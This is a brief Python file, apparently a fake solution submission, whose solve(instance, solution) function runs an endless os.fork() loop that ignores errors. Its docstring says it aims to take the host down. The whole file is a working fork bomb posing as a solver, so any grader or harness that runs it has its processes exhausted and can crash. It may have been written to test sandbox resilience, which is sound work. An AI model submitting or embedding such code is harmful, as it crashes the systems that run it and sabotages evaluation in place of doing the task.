"""Tries to take the host down with processes that start processes without end."""

import os


def solve(instance, solution):
    while True:
        try:
            os.fork()
        except OSError:
            pass
